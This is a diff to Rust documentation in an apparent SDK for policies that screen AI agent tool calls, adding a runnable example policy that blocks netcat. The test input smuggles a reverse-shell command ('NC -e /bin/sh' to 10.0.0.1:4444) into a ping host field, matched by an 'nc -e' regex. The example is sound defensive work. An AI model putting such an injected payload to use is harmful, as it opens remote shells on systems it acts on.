@@ -5,11 +5,34 @@
 //! same natively, so that a test can check a policy against real text
 //! instead of hand-built findings:
 //!
-//! ```ignore
-//! let call = testing::call("ping", json!({ "host": "localhost; nc -e /bin/sh 10.0.0.1 4444" }));
-//! let findings = testing::call_findings(&MyPolicy::metadata(), &call);
-//! let outcome = MyPolicy::check_call(&testing::context(), &call, &findings);
+//! ```
+//! use portcullis_sdk::serde_json::json;
+//! use portcullis_sdk::{
+//!     Context, EventKind, Finding, Metadata, Outcome, Pattern, Policy, ToolCall, Verdict, testing,
+//! };
+//!
+//! struct NoNetcat;
+//!
+//! impl Policy for NoNetcat {
+//!     fn metadata() -> Metadata {
+//!         Metadata::new("no-netcat", "1")
+//!             .on(EventKind::ToolCall)
+//!             .pattern(Pattern::regex("netcat", r"\bnc\s+-e\b"))
+//!     }
+//!
+//!     fn check_call(_: &Context, _: &ToolCall, findings: &[Finding]) -> Outcome {
+//!         match findings.first() {
+//!             Some(found) => Outcome::with(Verdict::Deny, "netcat", format!("{}: {}", found.field, found.matched)),
+//!             None => Outcome::allow(),
+//!         }
+//!     }
+//! }
+//!
+//! let call = testing::call("ping", json!({ "host": "localhost; NC -e /bin/sh 10.0.0.1 4444" }));
+//! let findings = testing::call_findings(&NoNetcat::metadata(), &call);
+//! let outcome = NoNetcat::check_call(&testing::context(), &call, &findings);
 //! assert_eq!(outcome.verdict, Verdict::Deny);
+//! assert_eq!(outcome.reasons[0].message, "/arguments/host: nc -e");
 //! ```
 //!
 //! It follows the host's contract: text is normalised (Unicode tag
